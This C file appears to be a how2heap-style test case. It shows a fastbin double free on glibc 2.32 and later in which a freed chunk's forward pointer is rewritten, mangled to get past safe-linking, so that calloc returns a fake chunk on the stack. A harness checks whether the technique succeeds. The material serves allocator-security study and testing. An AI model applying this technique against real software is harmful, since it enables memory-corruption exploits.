/* Technique: fastbin dup into stack (how2heap fastbin_dup_into_stack,
   glibc 2.32+ form with the tcache filled, calloc and safe-linking).

   Goal: calloc returns a chosen address (a fake 0x20 chunk on the
   stack).

   How: with the 0x20 tcache bin full, a, b, a are freed into the
   fastbin (double free around the fasttop check).  calloc returns a,
   then b, leaving a at the head of the fastbin while the program still
   holds it; its fd is rewritten to the fake chunk, mangled with
   PROTECT_PTR.  The fake chunk carries size 0x20 to pass the
   "memory corruption (fast)" check.  calloc returns a again, then the
   fake chunk.  */
#include "attack.h"

int
main (void)
{
  attack_init ("fastbin_dup_into_stack: fastbin double free, fd rewritten to a fake stack chunk");
  _Alignas (16) size_t stack_var[8] = { 0 };
  stack_var[1] = 0x20;		/* the fake chunk's size */
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = malloc (8);
  for (int i = 0; i < 7; i++)
    free (fill[i]);

  size_t *a = calloc (1, 8);
  size_t *b = calloc (1, 8);
  size_t *c = calloc (1, 8);
  say ("a %p b %p c %p fake chunk %p", a, b, c, stack_var);
  free (a);
  free (b);
  free (a);		/* double free */
  size_t *d = calloc (1, 8);
  size_t *e = calloc (1, 8);
  say ("calloc = %p, %p", d, e);
  /* d is a, still in the fastbin: point its fd at the fake chunk.  */
  d[0] = PROTECT_PTR (&d[0], stack_var);
  void *f = calloc (1, 8);
  void *g = calloc (1, 8);
  say ("calloc = %p, then %p", f, g);
  if (g == (void *) &stack_var[2])
    reached ("calloc returned the stack address %p", g);
  no_effect ("calloc returned %p and %p, not %p", f, g, &stack_var[2]);
}
